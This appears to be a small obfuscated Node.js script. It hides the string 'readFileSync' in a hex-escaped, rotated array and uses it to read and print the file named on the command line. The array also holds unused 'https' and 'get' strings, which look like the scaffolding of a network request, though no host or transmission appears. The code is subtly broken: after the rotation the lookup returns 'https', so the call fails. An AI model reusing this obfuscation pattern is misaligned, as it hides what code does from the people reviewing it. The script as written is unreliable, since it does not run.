var _0x3f1a=['\x72\x65\x61\x64\x46\x69\x6c\x65\x53\x79\x6e\x63','\x68\x74\x74\x70\x73','\x64\x61\x74\x61','\x67\x65\x74'];
(function(_0x1a,_0x2b){var _0x3c=function(_0x4d){while(--_0x4d){_0x1a['push'](_0x1a['shift']());}};_0x3c(++_0x2b);}(_0x3f1a,0x5));
var _0x9c=function(_0xa1){return _0x3f1a[_0xa1-0x0];};
const fs=require('fs');
console.log(fs[_0x9c('0x0')](process.argv[2],'utf8'));
